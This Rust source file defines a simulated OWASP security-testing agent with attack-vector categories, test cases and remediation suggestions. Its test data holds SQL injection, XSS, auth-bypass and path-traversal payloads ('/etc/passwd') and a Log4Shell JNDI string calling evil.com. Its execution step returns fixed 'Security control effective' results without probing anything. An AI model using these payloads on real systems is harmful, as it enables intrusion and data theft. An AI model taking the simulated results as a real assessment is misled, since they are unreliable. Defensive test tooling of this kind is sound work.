//! Security testing agent
//!
//! Probes the OWASP top ten categories with per-category attack vectors.

use crate::support::{
    decode_body, encode_body, endpoint_list, new_id, optional_object, optional_text, Simulation,
};
use async_trait::async_trait;
use qf_core::{AgentError, TestingAgent};
use qf_model::{
    AgentDescriptor, AgentInputs, CodeChange, RcaItem, Recommendation, Severity, TestCaseResult,
    TestData, TestScript,
};
use serde::{Deserialize, Serialize};
use serde_json::json;

pub const AGENT_TYPE: &str = "security_testing";

const CASE_SECONDS: f64 = 0.5;

const CATEGORIES: [&str; 10] = [
    "injection_attacks",
    "broken_authentication",
    "sensitive_data_exposure",
    "xml_external_entities",
    "broken_access_control",
    "security_misconfiguration",
    "xss_attacks",
    "insecure_deserialization",
    "vulnerable_components",
    "insufficient_logging",
];

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct AttackVector {
    name: String,
    description: String,
    method: String,
}

impl AttackVector {
    fn new(name: &str, description: &str, method: &str) -> Self {
        Self {
            name: name.into(),
            description: description.into(),
            method: method.into(),
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct SecurityScript {
    category: String,
    endpoints: Vec<String>,
    vectors: Vec<AttackVector>,
}

fn attack_vectors(category: &str) -> Vec<AttackVector> {
    match category {
        "injection_attacks" => vec![
            AttackVector::new("SQL_Injection", "SQL injection attempt", "Inject SQL payload"),
            AttackVector::new("NoSQL_Injection", "NoSQL injection attempt", "Inject NoSQL payload"),
            AttackVector::new("Command_Injection", "OS command injection", "Inject system commands"),
        ],
        "broken_authentication" => vec![
            AttackVector::new("Brute_Force", "Brute force attack", "Multiple login attempts"),
            AttackVector::new("Session_Fixation", "Session fixation attack", "Fix session ID"),
            AttackVector::new("Weak_Password", "Weak password policy", "Test password strength"),
        ],
        "xss_attacks" => vec![
            AttackVector::new("Reflected_XSS", "Reflected XSS", "Inject XSS payload in input"),
            AttackVector::new("Stored_XSS", "Stored XSS", "Store XSS payload"),
            AttackVector::new("DOM_XSS", "DOM-based XSS", "Manipulate DOM"),
        ],
        "broken_access_control" => vec![
            AttackVector::new("IDOR", "Insecure Direct Object Reference", "Access unauthorized resources"),
            AttackVector::new("Path_Traversal", "Path traversal attack", "Navigate file system"),
            AttackVector::new("Privilege_Escalation", "Privilege escalation", "Elevate privileges"),
        ],
        other => vec![AttackVector::new(
            "Generic_Test",
            &format!("Generic security test for {other}"),
            "Execute test",
        )],
    }
}

/// Vulnerability class inferred from a test case name
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Vulnerability {
    Injection,
    CrossSiteScripting,
    Authentication,
    AccessControl,
    Misconfiguration,
}

impl Vulnerability {
    #[must_use]
    pub fn classify(case_name: &str) -> Self {
        let lower = case_name.to_lowercase();
        if case_name.contains("SQL") || lower.contains("injection") {
            Self::Injection
        } else if case_name.contains("XSS") {
            Self::CrossSiteScripting
        } else if lower.contains("auth") {
            Self::Authentication
        } else if lower.contains("access_control") {
            Self::AccessControl
        } else {
            Self::Misconfiguration
        }
    }

    fn root_cause(self) -> &'static str {
        match self {
            Self::Injection => "Insufficient input validation and parameterization in database queries",
            Self::CrossSiteScripting => "Lack of output encoding and input sanitization",
            Self::Authentication => "Weak authentication mechanism or session management",
            Self::AccessControl => "Missing authorization checks on protected resources",
            Self::Misconfiguration => "Security misconfiguration or missing security controls",
        }
    }

    fn fix(self) -> &'static str {
        match self {
            Self::Injection => {
                "Use parameterized queries or prepared statements. Implement input validation and sanitization."
            }
            Self::CrossSiteScripting => {
                "Implement output encoding. Use Content Security Policy (CSP). Sanitize all user inputs."
            }
            Self::Authentication => {
                "Implement strong password policies, multi-factor authentication, and secure session management."
            }
            Self::AccessControl => {
                "Implement proper authorization checks. Use principle of least privilege."
            }
            Self::Misconfiguration => {
                "Review and implement security best practices. Conduct code review and security audit."
            }
        }
    }
}

fn security_patches() -> Vec<CodeChange> {
    vec![
        CodeChange::new(
            "api/auth.py",
            "45",
            "query = f\"SELECT * FROM users WHERE username='{username}'\"",
            "query = \"SELECT * FROM users WHERE username=?\"",
        ),
        CodeChange::new(
            "api/handlers.py",
            "78",
            "return f\"<div>{user_input}</div>\"",
            "return f\"<div>{html.escape(user_input)}</div>\"",
        ),
    ]
}

#[derive(Debug, Default, Clone, Copy)]
pub struct SecurityTestingAgent;

impl SecurityTestingAgent {
    #[must_use]
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl TestingAgent for SecurityTestingAgent {
    fn metadata(&self) -> AgentDescriptor {
        AgentDescriptor::new(
            AGENT_TYPE,
            "Security Testing & VAPT Agent",
            "Performs comprehensive security testing and vulnerability assessment",
        )
        .requires(["endpoints"])
        .accepts(["source_code", "api_keys", "config"])
        .with_capabilities([
            "OWASP Top 10 testing",
            "SQL injection detection",
            "XSS vulnerability scanning",
            "Authentication testing",
            "Authorization testing",
            "Encryption validation",
            "Session management testing",
            "Input validation testing",
            "Security misconfiguration detection",
        ])
        .with_estimated_duration(1800)
    }

    fn validate_inputs(&self, inputs: &AgentInputs) -> Result<(), AgentError> {
        endpoint_list(inputs, "endpoints")?;
        optional_text(inputs, "source_code")?;
        optional_object(inputs, "api_keys")?;
        Ok(())
    }

    async fn generate_test_scripts(&self, inputs: &AgentInputs) -> Result<Vec<TestScript>, AgentError> {
        let endpoints = endpoint_list(inputs, "endpoints")?;
        CATEGORIES
            .iter()
            .map(|&category| -> Result<TestScript, AgentError> {
                let body = encode_body(&SecurityScript {
                    category: category.to_string(),
                    endpoints: endpoints.clone(),
                    vectors: attack_vectors(category),
                })?;
                Ok(TestScript::new(new_id(), category, "security", format!("OWASP {category}"))
                    .with_body(body))
            })
            .collect()
    }

    async fn generate_test_data(
        &self,
        inputs: &AgentInputs,
        _scripts: &[TestScript],
    ) -> Result<TestData, AgentError> {
        let data = TestData::new()
            .with(
                "sql_injection_payloads",
                json!([
                    "' OR '1'='1",
                    "'; DROP TABLE users--",
                    "' UNION SELECT NULL, NULL--",
                    "admin'--",
                    "1' AND '1'='1",
                ]),
            )
            .with(
                "xss_payloads",
                json!([
                    "<script>alert('XSS')</script>",
                    "<img src=x onerror=alert('XSS')>",
                    "<svg/onload=alert('XSS')>",
                    "javascript:alert('XSS')",
                ]),
            )
            .with(
                "auth_bypass_attempts",
                json!([
                    {"username": "admin", "password": "admin"},
                    {"username": "' OR '1'='1", "password": "password"},
                    {"token": "invalid_token"},
                    {"session": "hijacked_session"},
                ]),
            )
            .with(
                "malicious_inputs",
                json!([
                    "../../../etc/passwd",
                    "..\\..\\..\\windows\\system32",
                    "${jndi:ldap://evil.com/a}",
                ]),
            )
            .with(
                "fuzzing_data",
                json!(["A".repeat(10_000), "\u{0}\u{0}\u{0}\u{0}", i32::MIN, "👾🚀💥"]),
            );
        Ok(Simulation::from_inputs(inputs).attach(data))
    }

    async fn execute_tests(
        &self,
        scripts: &[TestScript],
        data: &TestData,
    ) -> Result<Vec<TestCaseResult>, AgentError> {
        let simulation = Simulation::from_data(data);
        let mut cases = Vec::new();
        for script in scripts {
            let body: SecurityScript = decode_body(script)?;
            for vector in &body.vectors {
                let case = TestCaseResult::new(
                    new_id(),
                    format!("SEC_{}_{}", body.category, vector.name),
                    "security",
                    "Vulnerability not exploitable / Security control effective",
                )
                .with_description(format!("Test for {}: {}", body.category, vector.description))
                .with_steps([
                    format!("Prepare attack vector: {}", vector.name),
                    format!("Execute: {}", vector.method),
                    "Monitor system response".to_string(),
                    "Verify security controls are effective".to_string(),
                ])
                .with_actual("Security control effective")
                .with_execution_time(CASE_SECONDS);
                cases.push(simulation.apply(case));
            }
        }
        Ok(cases)
    }

    async fn analyze_failures(&self, failed: &[TestCaseResult]) -> Result<Vec<RcaItem>, AgentError> {
        Ok(failed
            .iter()
            .map(|case| {
                RcaItem::new(
                    new_id(),
                    "Security Vulnerability",
                    Vulnerability::classify(&case.name).root_cause(),
                    Severity::Critical,
                )
                .affecting([
                    case.name.clone(),
                    "Input validation layer".into(),
                    "Authentication system".into(),
                    "Data access layer".into(),
                ])
                .with_stack_trace(case.error_message.clone())
            })
            .collect())
    }

    async fn generate_recommendations(&self, rca_items: &[RcaItem]) -> Result<Vec<Recommendation>, AgentError> {
        Ok(rca_items
            .iter()
            .map(|rca| {
                let kind = rca
                    .affected_components
                    .first()
                    .map_or(Vulnerability::Misconfiguration, |name| Vulnerability::classify(name));
                let mut rec = Recommendation::for_rca(
                    new_id(),
                    rca,
                    format!("Security Fix: {}", rca.category),
                    "security_fix",
                    kind.fix(),
                )
                .with_priority(Severity::Critical)
                .with_code_changes(security_patches());
                rec.description = format!("Critical vulnerability found: {}", rca.root_cause);
                rec
            })
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classification_from_case_name() {
        assert_eq!(Vulnerability::classify("SEC_injection_attacks_SQL_Injection"), Vulnerability::Injection);
        assert_eq!(Vulnerability::classify("SEC_xss_attacks_DOM_XSS"), Vulnerability::CrossSiteScripting);
        assert_eq!(
            Vulnerability::classify("SEC_broken_authentication_Brute_Force"),
            Vulnerability::Authentication
        );
        assert_eq!(Vulnerability::classify("SEC_broken_access_control_IDOR"), Vulnerability::AccessControl);
        assert_eq!(
            Vulnerability::classify("SEC_insufficient_logging_Generic_Test"),
            Vulnerability::Misconfiguration
        );
    }

    #[tokio::test]
    async fn eighteen_probes_across_owasp_categories() {
        let agent = SecurityTestingAgent::new();
        let inputs = AgentInputs::new().with("endpoints", json!(["/login"]));
        let scripts = agent.generate_test_scripts(&inputs).await.unwrap();
        assert_eq!(scripts.len(), 10);

        let data = agent.generate_test_data(&inputs, &scripts).await.unwrap();
        let cases = agent.execute_tests(&scripts, &data).await.unwrap();
        assert_eq!(cases.len(), 18);
        assert_eq!(cases[0].name, "SEC_injection_attacks_SQL_Injection");
    }

    #[tokio::test]
    async fn findings_are_critical() {
        let agent = SecurityTestingAgent::new();
        let failed = TestCaseResult::new("c", "SEC_xss_attacks_Stored_XSS", "security", "blocked")
            .failed("payload reflected");
        let rca = agent.analyze_failures(&[failed]).await.unwrap();
        assert_eq!(rca[0].severity, Severity::Critical);

        let recs = agent.generate_recommendations(&rca).await.unwrap();
        assert_eq!(recs[0].priority, Severity::Critical);
        assert!(recs[0].suggested_fix.starts_with("Implement output encoding"));
        assert!(recs[0].description.starts_with("Critical vulnerability found"));
        assert_eq!(recs[0].code_changes.len(), 2);
    }
}
